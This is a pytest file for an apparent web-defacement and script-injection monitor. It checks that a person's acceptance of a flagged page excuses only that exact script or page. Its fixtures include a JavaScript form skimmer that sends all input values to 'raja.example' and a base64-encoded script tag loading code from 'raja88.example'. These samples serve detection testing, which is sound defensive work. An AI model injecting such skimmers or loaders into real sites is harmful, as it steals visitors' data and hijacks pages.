"""What a person's word on a page excuses: this very script, link, page, and not the next of its kind."""

import pytest

from sentinel.model.event import Event
from tests.kit.content.pages import page
from tests.kit.content.watch import Watch
from tests.kit.content.worlds import JUDOL, RELAUNCH

LOADER = "<script>var t='{token}'; document.write(atob('{payload}'));</script>"
MINE = "PGRpdiBjbGFzcz0iaml3YSI+U2VsYW1hdCBkYXRhbmcgZGkgbGFtYW4ga2FtaSB5YW5nIGJhcnU8L2Rpdj4gPHA+"
THEIRS = "PHNjcmlwdCBzcmM9Ii8vcmFqYTg4LmV4YW1wbGUvYS5qcyI+PC9zY3JpcHQ+IDxwPlNlbGFtYXQgZGF0YW5nPC9wPjxi"
SKIMMER = "document.querySelectorAll('input').forEach(i=>d+=i.value);new Image().src='https://{}/?'+d"


def verdict(event: Event) -> object:
    return event["sentinel.content.verdict"]


def accepted(body: str) -> Watch:
    """A page on which this was flagged, and accepted by a person."""
    watch = Watch().settle()
    assert verdict(watch.see(page(body=body))) == "injected"
    watch.accept()
    return watch


def test_a_script_that_was_accepted_excuses_itself_whatever_its_token_and_no_other() -> None:
    watch = accepted(LOADER.format(token="a81bf02c", payload=MINE))
    for token in ("9cd77e01", "b0e2aa41", "77aa1234"):
        assert verdict(watch.see(page(body=LOADER.format(token=token, payload=MINE)))) == "clean"
    assert verdict(watch.see(page(body=LOADER.format(token="9cd77e01", payload=THEIRS)))) == "injected"
    both = LOADER.format(token="1", payload=MINE) + LOADER.format(token="1", payload=THEIRS)
    assert verdict(watch.see(page(body=both))) == "injected", "one more of its kind is another matter"


def test_a_signature_that_was_accepted_excuses_the_very_text_that_it_hit() -> None:
    mine, theirs = (f"<script>{SKIMMER.format(site)}</script>" for site in ("ukur.kpu.test", "raja.example"))
    watch = accepted(mine)
    assert verdict(watch.see(page(body=mine))) == "clean"
    assert verdict(watch.see(page(body=theirs))) == "injected"


def test_a_page_that_was_accepted_once_excuses_no_other_page_of_the_same_title() -> None:
    watch = Watch().settle()
    for _ in range(2):
        watch.see(RELAUNCH)
    watch.accept()
    assert [verdict(watch.see(RELAUNCH)) for _ in range(3)] == ["clean"] * 3
    items = "".join(f"<li class='z{n}'><b>Kami ada di mana saja, kalian tidak {n}</b></li>" for n in range(40))
    other = f"<html><head><title>Portal Baru Pemilu</title></head><body><ul class='p9'>{items}</ul></body></html>"
    assert [verdict(watch.see(other)) for _ in range(2)] == ["changed", "defaced"]


def test_a_page_that_was_flagged_while_it_was_learned_is_usual_once_it_is_accepted() -> None:
    watch = Watch()
    for shown in (page(), *[RELAUNCH.replace("</section>", JUDOL + "</section>")] * 3):
        watch.see(shown)
    watch.accept()
    assert [verdict(watch.see(RELAUNCH)) for _ in range(3)] == ["clean"] * 3, "a person was shown this page"


@pytest.mark.parametrize(
    ("address", "word"),
    [
        ("bantuan.example/tanya?agent=Windows+NT+10.0%3B+Win64", "clean"),
        ("bantuan.example/tanya?agent=win88+daftar", "injected"),
        ("komunitas-jp.example/", "clean"),
        ("komunitas-jp-togel.example/", "injected"),
    ],
)
def test_neither_windows_nor_japan_makes_a_link_to_gambling(address: str, word: str) -> None:
    assert verdict(Watch().settle().see(page(body=f'<p><a href="https://{address}">Bantuan</a></p>'))) == word
